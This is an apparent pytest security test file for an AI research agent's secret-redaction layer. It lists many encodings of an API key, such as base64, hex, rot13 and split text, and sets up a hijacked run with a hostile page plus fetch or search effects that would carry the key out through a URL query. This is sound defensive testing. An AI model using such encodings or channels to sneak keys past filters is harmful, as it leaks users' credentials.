"""I11: a key of the installation is in no context, request, query, answer or line of a log, whoever wrote it where."""

from __future__ import annotations

import asyncio
import base64
import codecs
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.security.invariants_kit import ROWS, hijacked, row, run

from aria.adapters.keys import signer
from aria.core.effects import Complete, Fetch, Fetched, Search
from aria.core.errors import IntentRefused, RefusedInput
from aria.core.labels import Context, SourceText
from aria.exporters import markdown
from aria.security.secrets import COVER, Secrets
from aria.testing import World, researcher

KEY = "tvly-Q7x9Lm2PzR4w"
SAID = {
    "plain": KEY,
    "other case": KEY.upper(),
    "spread": " - ".join(KEY),
    "over sentences": f"It begins with {KEY[:6]}. {KEY[6:]} is how it ends.".replace("It begins with ", ""),
    "fullwidth": "".join(chr(ord(char) + 0xFEE0) for char in KEY),
    "backwards": KEY[::-1],
    "rot13": codecs.encode(KEY, "rot13"),
    "hex": KEY.encode().hex(),
    "percent": "".join(f"%{byte:02X}" for byte in KEY.encode()),
    "escaped": "".join(f"\\x{byte:02x}" for byte in KEY.encode()),
    "unicode escapes": "".join(f"\\u{ord(char):04x}" for char in KEY),
    "decimal": " ".join(str(byte) for byte in KEY.encode()),
    "octal": " ".join(f"{byte:03o}" for byte in KEY.encode()),
    "binary": " ".join(f"{byte:08b}" for byte in KEY.encode()),
    "base32": base64.b32encode(KEY.encode()).decode(),
    "base64": base64.b64encode(KEY.encode()).decode(),
    "base64 within": base64.b64encode(f"my key: {KEY}!".encode()).decode(),
    "base64 for addresses": base64.urlsafe_b64encode(f"k={KEY}".encode()).decode(),
}
SECRETS = Secrets([KEY])


@pytest.mark.parametrize("name", SAID)
def test_i11_a_key_is_covered_in_every_spelling_and_nothing_moves(name: str) -> None:
    text = f"Before it. {SAID[name]} After it."
    covered = SECRETS.covered(text)
    assert SECRETS.within(text)
    assert not SECRETS.within(covered)
    assert len(covered) == len(text)
    assert covered.startswith("Before it. ")
    assert covered.endswith("After it.")


@given(st.text(max_size=60), st.text(max_size=60))
def test_i11_wherever_it_stands_it_is_found(before: str, after: str) -> None:
    covered = SECRETS.covered(f"{before} {KEY} {after}")
    assert KEY not in covered
    assert len(covered) == len(f"{before} {KEY} {after}")


@given(st.text(max_size=200))
def test_i11_other_text_stays(text: str) -> None:
    assert SECRETS.within(text) or SECRETS.covered(text) == text
    assert Secrets().covered(text) == text
    assert Secrets(["short", " ", ""]).covered(text) == text


@pytest.mark.parametrize("name", ["plain", "spread", "base64 within", "hex"])
def test_i11_a_key_that_a_page_or_a_note_holds_gets_into_nothing(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TAVILY_API_KEY", KEY)
    page = f"<title>{SAID[name]}</title><p>The Golden Gate Bridge opened in 1937. Key: {SAID[name]}</p>"
    ran = run([row("http://www.hostile.example.com/a", page), *ROWS[1:]], hijacked)
    texts = [*ran.recorder.contexts, *ran.recorder.requests, *ran.recorder.queries]
    texts += [markdown.export(ran.report).decode(), str(ran.report.as_json())]
    texts += [record.line.decode() for record in ran.log]
    texts += [found.text.exposed() for found in ran.fetched().values()]
    assert any(COVER in text for text in texts), "the page was not read at all"
    assert not any(SECRETS.within(text) for text in texts)
    assert ran.report.citations


def test_i11_a_question_that_holds_a_key_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    asker = researcher(World(documents={"a": "b"}))
    with pytest.raises(RefusedInput):
        asyncio.run(asker.ask(f"What is {KEY} good for?"))


@pytest.mark.parametrize(
    "effect",
    [
        Search(text=f"golden {KEY}", tool="corpus", limit=3),
        Fetch(handle=f"web:http://www.example.com/?k={base64.b64encode(KEY.encode()).decode()}"),
        Complete(role="reader", model="m:1", prompt=Context(f"Document\n0| {KEY}"), max_tokens=5),
        Complete(role="reader", model="m:1", prompt=Context("x"), schema=f'{{"title": "{KEY}"}}', max_tokens=5),
    ],
)
async def test_i11_an_executor_sends_no_key_out(effect: Search | Fetch | Complete) -> None:
    from tests.security.test_invariants_log import Desk

    desk = Desk()
    desk.executor._secrets = SECRETS
    with pytest.raises(IntentRefused):
        await desk.executor.carry_out(desk.intent(effect), effect)
    assert not desk.world.asked


def test_i11_the_signing_key_is_a_secret_too(tmp_path: Path) -> None:
    from aria import wiring
    from aria.settings import load

    seed = signer(tmp_path).seed.hex()
    secrets = wiring.secrets(load(home=tmp_path))
    assert secrets.within(f"the seed is {seed}")


def test_what_is_covered_has_the_digest_of_what_is_left() -> None:
    from aria.core.canonical import digest

    text = f"A note. {KEY}"
    found = Fetched(
        title=SourceText(KEY),
        uri="u",
        source_class="web",
        published=None,
        owner=SourceText(""),
        text=SourceText(text),
        digest="0",
    )
    kept = SECRETS.kept_out(found)
    assert isinstance(kept, Fetched)
    assert kept.digest == digest(kept.text.exposed().encode())
    assert not SECRETS.within(kept.title.exposed() + kept.text.exposed())
